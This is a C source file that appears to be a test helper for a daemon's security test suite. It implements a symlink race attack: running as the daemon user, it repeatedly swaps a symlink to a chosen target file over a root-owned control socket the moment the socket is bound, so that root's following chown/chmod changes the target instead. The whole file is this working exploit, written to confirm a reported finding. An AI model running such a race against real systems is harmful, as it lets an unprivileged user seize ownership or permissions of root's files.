// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * ctlrace - test 22's attacker (issue 14, finding 2): run as the daemon
 * user, it tries to turn root's set-up of the control socket against a
 * file of root's.  In a tight loop it keeps a fresh symlink DIR/.ctlrace.PID
 * -> TARGET ready and, the moment DIR/NAME is a socket (root has just
 * bound it and is about to set its owner and mode), rename(2)s the symlink
 * over it: code that then calls chown/chmod on the path changes TARGET.
 *
 *   ctlrace DIR NAME TARGET SECONDS
 *
 * Runs until SECONDS pass or SIGTERM/SIGINT, then prints one line:
 *   attempts N staged N swapped N eacces N enoent N other N
 * (staged: symlinks created in DIR; swapped: sockets replaced; eacces,
 * enoent, other: failed symlink/lstat/rename calls by errno).
 */
#include <errno.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t g_stop;

static void on_signal(int sig)
{
	(void)sig;
	g_stop = 1;
}

struct stats {
	unsigned long attempts, staged, swapped, eacces, enoent, other;
};

static void count_errno(struct stats *s, int e)
{
	if (e == EACCES || e == EPERM)
		s->eacces++;
	else if (e == ENOENT)
		s->enoent++;
	else
		s->other++;
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	char stage[4096], name[4096];
	struct stats s = {0};
	struct sigaction sa = {.sa_handler = on_signal};
	bool have_stage = false;
	double end;

	if (argc != 5) {
		fprintf(stderr, "usage: ctlrace DIR NAME TARGET SECONDS\n");
		return 2;
	}
	snprintf(stage, sizeof(stage), "%s/.ctlrace.%d", argv[1], (int)getpid());
	snprintf(name, sizeof(name), "%s/%s", argv[1], argv[2]);
	end = now() + atof(argv[4]);
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	while (!g_stop) {
		struct stat st;
		if ((++s.attempts & 1023) == 0 && now() > end)
			break;
		if (!have_stage) {
			unlink(stage); /* a leftover from a swap that failed */
			if (symlink(argv[3], stage) == 0) {
				have_stage = true;
				s.staged++;
			} else {
				count_errno(&s, errno);
				continue;
			}
		}
		if (lstat(name, &st)) {
			if (errno != ENOENT) /* no socket yet is the usual case */
				count_errno(&s, errno);
			continue;
		}
		if (!S_ISSOCK(st.st_mode))
			continue;
		if (rename(stage, name) == 0) {
			s.swapped++;
			have_stage = false;
		} else {
			count_errno(&s, errno);
		}
	}
	if (have_stage)
		unlink(stage);
	printf("attempts %lu staged %lu swapped %lu eacces %lu enoent %lu other %lu\n", s.attempts,
	       s.staged, s.swapped, s.eacces, s.enoent, s.other);
	return 0;
}
